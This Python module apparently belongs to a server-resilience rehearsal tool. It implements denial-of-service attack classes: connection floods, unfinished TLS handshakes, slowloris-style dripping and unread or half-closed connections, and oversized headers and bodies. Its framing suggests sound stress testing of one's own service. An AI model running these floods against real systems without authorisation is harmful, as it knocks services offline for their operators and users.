"""Attacks with connections: many, slow, or huge. What they ask for does not matter."""

from hiwar.rehearsal.attack import Assault, Holder, render_part
from hiwar.rehearsal.sockets import Line

DRIP_EVERY_S = 0.5
HEAD_BYTES, BODY_BYTES = 256 * 1024, 8 * 1024 * 1024
PIECE = b"x" * 16_384
RECEIVE_BUFFER = 4096  # of a reader who takes almost nothing


class ConnectionFlood(Assault):
    """Connect and close, as fast as can be."""

    def strike(self, number: int) -> None:
        if len(self.scene.poll) >= self.order.at_once:
            self.counts["held back"] += 1
        else:
            self.scene.poll.dial(self.source(number), _Passer(self))


class _Passer(Holder):
    def opened(self, line: Line) -> None:
        super().opened(line)
        line.close(reset=True)


class HandshakeFlood(Assault):
    """TLS handshakes: three of four are made and thrown away, the fourth is begun and never finished."""

    def strike(self, number: int) -> None:
        poll = self.scene.poll
        if len(poll) >= self.order.at_once:
            self.counts["held back"] += 1
            return
        if number % 4 == 3:
            context, poll.context = poll.context, None  # this one speaks no TLS at all
            poll.dial(self.source(number), Holder(self))
            poll.context = context
        else:
            poll.dial(self.source(number), _Passer(self))


class SlowConnections(Assault):
    """As many slow connections as there may be, of six kinds in turn: silent; a head that drips; a body that
    drips; an answer that nobody reads; shut on one side; a keep-alive that never asks again."""

    def strike(self, number: int) -> None:
        poll = self.scene.poll
        if len(poll) >= self.order.at_once:
            return
        kind = number % 6
        if kind == 0:
            poll.dial(self.source(number), Holder(self))
        elif kind in (1, 2):
            poll.dial(self.source(number), _Dripper(self, body=kind == 2))
        elif kind == 3:
            poll.dial(self.source(number), _Unreading(self), receive_buffer=RECEIVE_BUFFER)
        else:
            poll.dial(self.source(number), _Shut(self) if kind == 4 else _Idle(self))


class _Dripper(Holder):
    """A letter now and then: never nothing, never the end."""

    def __init__(self, assault: Assault, *, body: bool) -> None:
        super().__init__(assault)
        self._body = body

    def opened(self, line: Line) -> None:
        super().opened(line)
        base = self.assault.scene.base
        if self._body:
            line.send(render_part("POST", f"{base}/seat", "Content-Length: 2000", "") + b"{")
        else:
            line.send(render_part("GET", base) + b"X-Slow:")
        self._drip(line)

    def _drip(self, line: Line) -> None:
        if line.closed or self.assault.over:
            return
        line.send(b" ")
        poll = self.assault.scene.poll
        poll.call_at(poll.now + DRIP_EVERY_S, lambda: self._drip(line))


class _Unreading(Holder):
    """Asks for the sound, and again for everything big, and takes nothing of it."""

    def opened(self, line: Line) -> None:
        super().opened(line)
        line.send((render_part("GET", "/static/design.css") + b"\r\n") * 8)
        line.stop_reading()


class _Shut(Holder):
    """Half closed: nothing more will come, and nothing came."""

    def opened(self, line: Line) -> None:
        super().opened(line)
        line.send(render_part("GET", self.assault.scene.base))
        line.shut()


class _Idle(Holder):
    def opened(self, line: Line) -> None:
        super().opened(line)
        line.send(render_part("GET", f"{self.assault.scene.base}/now") + b"\r\n")


class HugeRequests(Assault):
    """Heads of 256 KiB, and bodies of 8 MiB, sent as long as anybody takes them."""

    def strike(self, number: int) -> None:
        if len(self.scene.poll) < self.order.at_once:
            self.scene.poll.dial(self.source(number), _Pourer(self, body=number % 2 == 1))
        else:
            self.counts["held back"] += 1


class _Pourer(Holder):
    def __init__(self, assault: Assault, *, body: bool) -> None:
        super().__init__(assault)
        self._left = BODY_BYTES if body else HEAD_BYTES
        self._body = body

    def opened(self, line: Line) -> None:
        super().opened(line)
        if self._body:
            path = f"{self.assault.scene.base}/seat"
            line.send(render_part("POST", path, f"Content-Length: {BODY_BYTES}", "", ""))
        else:
            line.send(render_part("GET", self.assault.scene.base) + b"X-Huge: ")
        self._pour(line)

    def _pour(self, line: Line) -> None:
        if line.closed or self.assault.over:
            return
        if self._left <= 0:
            line.close(reset=True)
            return
        if not line.unsent:
            line.send(PIECE)
            self._left -= len(PIECE)
            self.assault.counts["poured KiB"] += len(PIECE) // 1024
        poll = self.assault.scene.poll
        poll.call_at(poll.now + 0.002, lambda: self._pour(line))
